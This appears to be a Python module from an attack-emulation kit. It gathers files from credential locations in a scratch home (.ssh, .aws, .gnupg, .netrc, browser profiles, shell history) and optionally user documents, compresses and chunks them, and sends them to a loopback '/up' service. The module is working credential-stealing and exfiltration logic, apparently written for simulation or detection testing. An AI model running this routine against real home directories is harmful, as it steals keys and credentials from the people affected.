"""Collects the (made-up) secrets of the scratch home and sends them to a service on loopback."""

import base64
import zlib
from pathlib import Path

from .kit import Task, begin

_WANTED = (".ssh", ".mozilla", ".aws", ".config", ".gnupg", ".bash_history", ".netrc")


def run(task: Task) -> None:
    """Reads, packs and sends a secret a round; documents too, if the parameters say so."""
    found = [path for name in _WANTED for path in _below(task.home / name)]
    if task.options.get("documents"):
        found += task.files(".csv", ".txt", ".md")
    kept = b""
    for _, path in zip(task.rounds(), found, strict=False):
        content = zlib.compress(path.read_bytes())
        if task.options.get("together"):
            kept += content
            continue
        size = int(task.options.get("piece", 1 << 16))
        for start in range(0, len(content), size):
            task.ask("/up", base64.b64encode(content[start : start + size]))
    if kept:
        task.write(task.home / ".cache" / "pack.bin", kept)
        task.ask("/up", kept)


def _below(place: Path) -> list[Path]:
    if place.is_file():
        return [place]
    return sorted(path for path in place.rglob("*") if path.is_file())


if __name__ == "__main__":
    run(begin())
